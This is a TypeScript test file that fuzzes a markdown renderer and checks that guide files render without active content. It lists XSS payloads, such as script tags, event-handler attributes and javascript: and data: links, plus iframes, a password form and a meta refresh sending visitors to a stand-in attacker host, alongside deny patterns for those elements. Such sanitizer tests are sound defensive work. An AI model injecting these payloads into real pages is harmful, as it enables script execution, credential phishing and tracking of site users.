import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderGuide } from './render-guide';

/** Markdown a tampered guide file could carry: raw HTML, event handlers, script URLs, frames, SVG. */
const HOSTILE = [
  '<script>window.__pwned = 1</script>',
  '<img src="x.png" onerror="window.__pwned = 1">',
  '<img src=x onerror=alert(1)>',
  '[click me](javascript:alert(1))',
  '[click me](JaVaScRiPt:alert(1))',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[page](index.md "x\\" onmouseover=\\"alert(1)")',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/track.png)',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload="alert(1)"><circle r="1"/></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">raw link</a>',
  '<a href="index.md" onclick="alert(1)">raw guide link</a>',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<style>body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<div style="background:url(javascript:alert(1))" data-x="1" aria-hidden="true">styled</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p>unclosed <b onmouseover=alert(1)>bold',
  '`<script>alert("code")</script>`',
  '```html\n<script>alert("block")</script>\n```',
];

const FORBIDDEN_ELEMENTS =
  'script, iframe, frame, object, embed, svg, math, form, input, button, style, link, meta, base, details, div, b';

function render(source: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = renderGuide(source);
  return container;
}

function expectInert(container: HTMLElement): void {
  expect(container.querySelectorAll(FORBIDDEN_ELEMENTS)).toHaveLength(0);
  for (const element of Array.from(container.querySelectorAll('*'))) {
    for (const attribute of Array.from(element.attributes)) {
      expect(attribute.name, element.outerHTML).not.toMatch(/^on|^style$|^xlink|^formaction$/i);
      expect(attribute.value.replace(/\s/g, ''), element.outerHTML).not.toMatch(/^(javascript|data|vbscript):/i);
    }
  }
  for (const anchor of Array.from(container.querySelectorAll('a'))) {
    expect(anchor.getAttribute('href')).toMatch(/\/guide\/[A-Za-z0-9-]+\.md$/);
  }
  for (const image of Array.from(container.querySelectorAll('img'))) {
    expect(image.getAttribute('src')).toMatch(/\/guide\/[A-Za-z0-9-]+\.png$/);
  }
}

describe('guide markdown is rendered inert', () => {
  it.each(HOSTILE)('%s', (source) => {
    expectInert(render(source));
  });

  it('keeps code that shows markup as visible text', () => {
    const container = render('`<script>alert("code")</script>`\n\n```html\n<iframe src="x"></iframe>\n```');
    expect(container.querySelectorAll('script, iframe')).toHaveLength(0);
    expect(container.textContent).toContain('<script>alert("code")</script>');
    expect(container.textContent).toContain('<iframe src="x"></iframe>');
  });

  it('shows raw HTML as the text it is, never as markup', () => {
    const container = render('Before <img src=x onerror="alert(1)"> after\n\n<div onclick="alert(1)">block</div>');
    expect(container.querySelectorAll('img, div')).toHaveLength(0);
    expect(container.textContent).toContain('<img src=x onerror="alert(1)">');
    expect(container.textContent).toContain('<div onclick="alert(1)">block</div>');
  });

  it('keeps the words of a link it drops', () => {
    const container = render('Read [the docs](javascript:alert(1)) first.');
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toContain('Read the docs first.');
  });

  it('stays inert for any mix of hostile fragments and markdown', () => {
    const fragment = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom(
        '# Title',
        '- item',
        '> quote',
        '| a | b |\n| - | - |\n| 1 | 2 |',
        '**bold**',
        '[page](index.md)',
        '![pic](shot.png)',
      ),
      fc.string({ maxLength: 30 }),
    );
    fc.assert(
      fc.property(
        fc.array(fragment, { minLength: 1, maxLength: 8 }),
        fc.constantFrom('', '\n', '\n\n', ' '),
        (parts, glue) => {
          expectInert(render(parts.join(glue)));
        },
      ),
      { numRuns: 150 },
    );
  });
});
